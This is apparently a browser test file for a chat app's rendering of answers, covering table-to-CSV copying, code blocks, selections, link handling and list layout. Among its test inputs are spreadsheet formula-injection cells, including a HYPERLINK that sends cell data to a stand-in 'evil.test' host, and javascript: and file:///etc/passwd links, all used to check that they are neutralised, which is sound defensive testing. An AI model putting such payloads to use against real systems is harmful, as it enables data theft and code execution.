/** Copying, selecting and following links in answers. */

import { PNG } from 'pngjs'
import { expect, test } from 'vitest'

import { Person } from './browser'
import { beginAnswer } from './liveAnswer'
import { openedSite } from './openedSite'
import { openThread } from './openThread'

const site = openedSite()

const CLIPBOARD = { permissions: ['clipboard-read', 'clipboard-write'] }

async function shown(text: string, options: Parameters<typeof Person.at>[1] = {}): Promise<Person> {
  const ann = await Person.at(site, options)
  await openThread(ann, [text])
  await ann.chat.locator('article .rich-text').waitFor()
  return ann
}

async function settled(person: Person): Promise<void> {
  expect(person.problems).toEqual([])
  await person.leave()
}

const copied = (person: Person): Promise<string> =>
  person.page.evaluate(() => navigator.clipboard.readText())

test('a table is copied as CSV, and no cell of it is a formula', async () => {
  const table = [
    '| Name | Text |',
    '| --- | --- |',
    '| a "b" | c, d |',
    '| one<br>two | [link](https://a.test) and `x\\|y` |',
    '| $x^2$ | **bold** |',
    '| =1+1 | =HYPERLINK("https://evil.test?"&A1) |',
    '| @SUM(1) | -2+cmd\\|x |',
    '| -5 | +47 22 33 |',
    '| -5°C | - |',
    '| only one |',
  ]
  const ann = await shown(table.join('\n'), CLIPBOARD)
  await ann.chat.locator('.wide-table').hover()
  await ann.button('Copy as CSV').click()
  await ann.button('Copied').waitFor()
  await expect
    .poll(() => copied(ann))
    .toBe(
      [
        'Name,Text',
        '"a ""b""","c, d"',
        '"one\ntwo",link and x|y',
        '$x^2$,bold',
        `'=1+1,"'=HYPERLINK(""https://evil.test?""&A1)"`,
        `'@SUM(1),'-2+cmd|x`,
        '-5,+47 22 33',
        '-5°C,-',
        'only one,',
      ].join('\r\n'),
    )
  await settled(ann)
})

test.each(['light', 'dark'] as const)(
  'a table that is too wide has a shadow where it is cut off, %s',
  async (colorScheme) => {
    const cells = (word: string): string => `|${` ${word} |`.repeat(12)}`
    const text = `${cells('heading')}\n${cells('---')}\n${cells('something')}\n${cells('longword')}`
    const ann = await shown(text, { colorScheme })
    const table = ann.chat.locator('.wide-table')
    /** The difference between a side's color and the color of the message. */
    const shades = async (): Promise<[left: number, right: number]> => {
      const { data, width, height } = PNG.sync.read(
        await table.screenshot({ animations: 'disabled' }),
      )
      const lightness = (x: number, y: number): number => data[(y * width + x) * 4] as number
      const darkest = (x: number): number => {
        const rows = Array.from({ length: height }, (_, y) => lightness(x, y))
        return Math.abs(mode(rows) - surface)
      }
      const surface = mode(Array.from({ length: height }, (_, y) => lightness(width >> 1, y)))
      return [darkest(1), darkest(width - 2)]
    }
    const shaded = async (): Promise<boolean[]> => (await shades()).map((shade) => shade > 5)
    await expect.poll(shaded).toEqual([false, true])
    await table.evaluate((each) => (each.scrollLeft = 1e6))
    await expect.poll(shaded).toEqual([true, false])
    await settled(ann)
  },
)

/** Return the most frequent value. */
function mode(values: readonly number[]): number {
  const counts = new Map<number, number>()
  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1)
  return [...counts].reduce((a, b) => (b[1] > a[1] ? b : a))[0]
}

test('code has a name, is wrapped, expanded and copied', async () => {
  const lines = Array.from({ length: 60 }, (_, index) => `const a${index} = ${index}`)
  const wide = `// ${'word '.repeat(60)}`
  const code = [wide, ...lines].join('\n')
  const text = `\`\`\`ts title="src/main.ts"\n${code}\n\`\`\``
  const ann = await shown(text, CLIPBOARD)
  const block = ann.chat.locator('.code-block')
  await expect.poll(() => block.locator('.code-name').textContent()).toBe('src/main.ts')
  const pre = block.locator('pre')
  const height = (): Promise<number> => pre.evaluate((each) => each.clientHeight)
  const isWide = (): Promise<boolean> => pre.evaluate((each) => each.scrollWidth > each.clientWidth)
  const folded = await height()
  await ann.button('Show more').click()
  await expect.poll(height).toBeGreaterThan(folded * 2)
  const unfolded = await height()
  await expect.poll(() => isWide()).toBe(true)
  await ann.button('Wrap lines').click()
  await expect.poll(isWide).toBe(false)
  await expect.poll(() => height()).toBeGreaterThan(unfolded)
  await ann.button('Show less').click()
  await expect.poll(height).toBe(folded)
  await block.getByRole('button', { name: 'Copy' }).click()
  await block.getByRole('button', { name: 'Copied' }).waitFor()
  await expect.poll(() => copied(ann)).toBe(code)
  await settled(ann)
})

test('a selection stays while the answer continues, and when its colors arrive', async () => {
  const ann = await Person.at(site)
  const answer = await beginAnswer(ann)
  await answer.write('First **words** to select.\n\nMore')
  await ann.text('First').waitFor()
  const selected = (): Promise<string> =>
    ann.page.frames()[1]!.evaluate(() => String(document.getSelection()))
  await ann.chat.locator('.markdown p').first().selectText()
  for (const delta of [' and', ' **more', '**\n\n', '- a\n', '- b\n\n', 'End of it']) {
    await answer.write(delta)
    await ann.page.waitForTimeout(50)
  }
  await ann.text('End of it').waitFor()
  await expect.poll(() => selected()).toBe('First words to select.')
  await answer.write('\n\n```js\nconst answer = 42\n')
  const line = ann.chat.locator('.code-block code')
  await line.getByText('const').waitFor()
  await line.selectText()
  await answer.write('let more = 1\n')
  await line.locator('span[style]').first().waitFor()
  await line.getByText('more').first().waitFor()
  await expect.poll(async () => (await selected()).trim()).toBe('const answer = 42')
  await answer.end()
  await expect.poll(async () => (await selected()).trim()).toBe('const answer = 42')
  await settled(ann)
})

test("a blocked link says so in the reader's language", async () => {
  const text = '[words](javascript:alert(1)) and [file](file:///etc/passwd)'
  const ann = await shown(text)
  await ann.text('words (link blocked) and file (link blocked)').waitFor()
  await ann.setOptions({ locale: 'de-DE' })
  await ann.text('words (Link blockiert) and file (Link blockiert)').waitFor()
  await expect.poll(() => ann.chat.locator('article .markdown a').count()).toBe(0)
  await settled(ann)
})

test('links open pages of the same site, mail and phone apps', async () => {
  const links = {
    page: '/page?a=1',
    sibling: 'page.html',
    place: '#top',
    mail: 'mailto:a@b.test?subject=x',
    call: 'tel:+4722',
    other: 'https://b.test/',
  }
  const text = Object.entries(links)
    .map(([name, url]) => `[${name}](${url})`)
    .join(' ')
  const ann = await shown(text)
  const { url } = site
  const targets = [
    `${url}/page?a=1`,
    `${url}/page.html`,
    `${ann.page.url()}#top`,
    links.mail,
    links.call,
  ]
  const shownLinks = ann.chat.locator('article .markdown a')
  const hrefs = await shownLinks.evaluateAll((all) =>
    all.map((each) => (each as HTMLAnchorElement).href),
  )
  expect(hrefs).toEqual([...targets, links.other])
  await ann.page.context().route(`${url}/page?a=1`, (route) => route.fulfill({ body: 'A page.' }))
  const opening = ann.page.context().waitForEvent('page')
  await shownLinks.first().click()
  const opened = await opening
  await opened.getByText('A page.').waitFor()
  expect(await opened.evaluate(() => [document.referrer, opener])).toEqual(['', null])
  await opened.close()
  await settled(ann)
})

test('a formula that is too deep or too long is shown as its source', async () => {
  const deep = `$$${'\\frac{1}{'.repeat(300)}x${'}'.repeat(300)}$$`
  const long = `$$${'x_1+'.repeat(1_000)}x$$`
  const ann = await shown(
    `${deep}\n\n${long}\n\n$$\\frac{1}{${'\\sqrt{'.repeat(8)}x${'}'.repeat(8)}}$$`,
  )
  const formulas = ann.chat.locator('.formula')
  await formulas.nth(2).locator('.katex').waitFor()
  await expect.poll(() => formulas.first().textContent()).toBe(deep)
  await expect.poll(() => formulas.nth(1).textContent()).toBe(long)
  await settled(ann)
})

test('an answer is copied as it was written, and a selection as text and as HTML', async () => {
  const text = [
    'Some **bold** and $x^2$.',
    '| a | b |\n| - | - |\n| c | d |',
    '```js\nconst a = 1\n```',
    'A note.[^1]\n\n[^1]: Below.',
  ].join('\n\n')
  const ann = await shown(text, CLIPBOARD)
  await ann.chat.locator('.formula .katex').waitFor()
  await ann.chat.locator('.actions').getByRole('button', { name: 'Copy' }).click()
  await expect.poll(() => copied(ann)).toBe(text)
  const select = async (what: string): Promise<{ plain: string; html: string }> => {
    await ann.chat.locator(what).first().selectText()
    await ann.page.keyboard.press('Control+c')
    return ann.page.evaluate(async () => {
      const [item] = await navigator.clipboard.read()
      const read = async (type: string): Promise<string> => (await item!.getType(type)).text()
      return { plain: await read('text/plain'), html: await read('text/html') }
    })
  }
  const { plain, html } = await select('article .rich-text')
  expect(plain.split(/\s*\n\s*/).filter(Boolean)).toEqual(
    ['Some bold and $x^2$.', 'a b', 'c d', 'const a = 1', 'A note.1', 'Below.'].map((line) =>
      line.replace(/^([ac]) /, '$1\t'),
    ),
  )
  expect(html).toMatch(/<strong[^>]*>bold<\/strong>/)
  expect(html).toMatch(/<table/)
  expect(html).toMatch(/<pre/)
  expect(html).not.toMatch(/<button|<svg|katex|Copy as CSV/)
  const part = await select('article .piece > p')
  expect(part.plain.trim()).toBe('Some bold and $x^2$.')
  const table = await select('article .wide-table')
  expect(table.html).not.toMatch(/<button|<svg/)
  await settled(ann)
})

test('a long answer with a formula is copied as a whole, also what is out of view', async () => {
  const lines = Array.from({ length: 2_000 }, (_, number) => `line ${number}`)
  const paragraphs = Array.from({ length: 200 }, (_, number) => `Paragraph ${number}.`)
  const text = ['$x$', ...paragraphs, `\`\`\`text\n${lines.join('\n')}\n\`\`\``, 'The end.']
  const ann = await shown(text.join('\n\n'), CLIPBOARD)
  await ann.chat.locator('.formula .katex').waitFor()
  await expect.poll(() => ann.chat.locator('article .plain').count()).toBe(0)
  await ann.chat.getByText('The end.').click()
  await ann.chat.locator('article .rich-text').selectText()
  await ann.page.keyboard.press('Control+c')
  await expect
    .poll(async () => (await copied(ann)).split(/\s*\n\s*/).filter(Boolean))
    .toEqual(['$x$', ...paragraphs, ...lines, 'The end.'])
  await settled(ann)
})

test('an answer is read aloud without its markup', async () => {
  const ann = await Person.at(site)
  const answer = await beginAnswer(ann)
  await answer.write('# Title\n\nSome **bold** [link](https://a.test), `code` and $x^2$.\n\n')
  await answer.write(
    '| a | b |\n| - | - |\n| c | d |\n\n- one\n- [x] two\n\nA note.[^1]\n\n[^1]: Below.',
  )
  await answer.end()
  const log = ann.chat.getByRole('log').locator('p').last()
  await expect
    .poll(async () => (await log.textContent())?.split('\n'))
    .toEqual([
      'Title',
      'Some bold link, code and $x^2$.',
      'a, b',
      'c, d',
      'one',
      'two',
      'A note.',
      'Below.',
    ])
  await settled(ann)
})

test('blocks in an item are as close to bold text as to plain text', async () => {
  const blocks = ['  - b', '  ```\n  b\n  ```', '  > b', '  | b |\n  | - |']
  const items = blocks.flatMap((block) => [`- a\n${block}`, `- **a**\n${block}`])
  const ann = await shown(items.join('\n'))
  const gaps = await ann.chat.locator('article .piece > ul > li').evaluateAll((all) =>
    all.map((each) => {
      const block = each.querySelector(':scope > :is(ul, div, blockquote)') as HTMLElement
      return block.getBoundingClientRect().top - each.getBoundingClientRect().top
    }),
  )
  expect(gaps).toHaveLength(8)
  for (let index = 0; index < 8; index += 2) expect(gaps[index + 1]).toBe(gaps[index])
  await settled(ann)
})

test.each([
  ['- مرحبا\n- item\n', 'left'],
  ['1. item\n2. مرحبا\n', 'right'],
] as const)(
  'an item in another direction than its list has room for its marker: %j',
  async (text, side) => {
    const ann = await shown(text)
    const room = await ann.chat
      .locator('article li')
      .last()
      .evaluate((item, side) => {
        const text = item.closest('.markdown') as HTMLElement
        return Math.abs(text.getBoundingClientRect()[side] - item.getBoundingClientRect()[side])
      }, side)
    expect(room).toBeGreaterThan(20)
    await settled(ann)
  },
)

test('the box of a task is on the first line of its text', async () => {
  const ann = await shown('- [ ] a\n\n  b\n- [x] c')
  const heights = await ann.chat.locator('article .task').evaluateAll((all) =>
    all.map((each) => {
      const [box, line] = each.children as unknown as [Element, Element]
      return line.getBoundingClientRect().bottom - box.getBoundingClientRect().bottom
    }),
  )
  expect(heights).toHaveLength(2)
  for (const height of heights) expect(Math.abs(height)).toBeLessThan(10)
  await settled(ann)
})

test.each([
  ['close items', '1. a\n'.repeat(350)],
  ['loose items', '1. a\n\n'.repeat(350)],
  ['items in a quote', '> 1. a\n'.repeat(350)],
  ['notes', Array.from({ length: 120 }, (_, at) => `b[^${at}]\n\n[^${at}]: a\n\n`).join('')],
])('a long list of %s looks like one list', async (_, text) => {
  const ann = await shown(text)
  await ann.chat.locator('article').evaluate(() => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync('.markdown .piece { content-visibility: visible !important }')
    document.adoptedStyleSheets.push(sheet)
  })
  const count = text.match(/^(?:> )?(?:1\.|\[\^\d+\]:)/gm)?.length ?? 0
  const items = ann.chat.locator('article li')
  await expect.poll(() => items.count()).toBe(count)
  /** The difference between the longest and the shortest distance of two items, in pixels. */
  const spread = (): Promise<number> =>
    items.evaluateAll((all) => {
      const tops = all.map((each) => each.getBoundingClientRect().top)
      const distances = tops.slice(1).map((top, index) => top - tops[index]!)
      return Math.max(...distances) - Math.min(...distances)
    })
  await expect.poll(spread).toBeLessThan(1)
  await expect.poll(() => ann.chat.locator('article ol').count()).toBeGreaterThan(1)
  await settled(ann)
})
